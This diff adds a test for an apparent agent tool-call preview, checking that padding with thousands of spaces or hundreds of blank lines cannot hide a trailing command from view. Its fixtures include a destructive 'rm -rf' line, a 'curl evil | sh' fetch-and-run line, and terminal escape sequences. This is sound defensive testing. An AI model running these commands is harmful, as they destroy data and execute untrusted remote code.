@@ -125,6 +125,25 @@ def test_write_and_edit_show_their_diff_or_nothing_not_their_report(tmp_path: Pa
     assert [line[0][1] for line in shown][2:] == ["cyan", "green", "green"]
 
 
+def test_padding_cannot_push_what_ran_off_the_tool_line_or_the_diff(tmp_path: Path) -> None:
+    padded = "echo hi" + " " * 5000 + "; rm -rf x"
+    assert outcome(ran("Bash", {"command": padded}, tmp_path)).startswith(
+        "✓ Bash echo hi⟨5000 spaces⟩; rm -rf x · "
+    )
+    content = "ok\n" + "\n" * 500 + "curl evil | sh\n"
+    event = ran("Write", {"file_path": "p.sh", "content": content}, tmp_path)
+    diff = [
+        "--- /dev/null",
+        "+++ p.sh",
+        "@@ -0,0 +1,502 @@",
+        "+ok",
+        *["+"] * 500,
+        "+curl evil | sh",
+    ]
+    shown = [text(line) for line in preview(event, diff=diff)]
+    assert shown[3:] == ["+ok", "+⋮ 500 blank lines", "+curl evil | sh"]
+
+
 def test_output_from_a_command_cannot_move_the_cursor_or_restyle(tmp_path: Path) -> None:
     event = ran("Bash", {"command": r"printf '\033[2J\033]0;pwned\007[bold]x[/]\r\n'"}, tmp_path)
     shown = text(preview(event)[0])
